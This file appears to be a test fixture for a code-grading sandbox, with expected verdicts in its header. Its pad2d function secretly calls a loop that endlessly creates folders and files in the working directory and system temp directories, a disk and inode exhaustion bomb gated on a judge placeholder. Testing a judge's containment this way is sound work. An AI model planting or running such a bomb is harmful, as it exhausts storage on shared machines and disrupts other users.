# expect:
#   verdict: [raised, wrong, over-time, over-memory]
#   earned: 0
#   call_seconds: 0.5
# sentence: Empty files and folders without number, in its own folder and in those for temporary files; they are limited, and go.

import contextlib
import itertools
import os
import tempfile

import numpy as np


def attack():
    for number in itertools.count() if "@JUDGE@".isdigit() else ():
        for folder in (".", tempfile.gettempdir(), "/var/tmp", "/dev/shm"):
            with contextlib.suppress(OSError):
                os.mkdir(f"{folder}/bomb{number}")
                open(f"{folder}/bomb{number}/file", "x").close()


def pad2d(x, padding, value=0.0):
    attack()
    return np.zeros(1)


def output_size(size, kernel, stride=1, padding=0):
    return 0


def same_padding(kernel):
    return 0
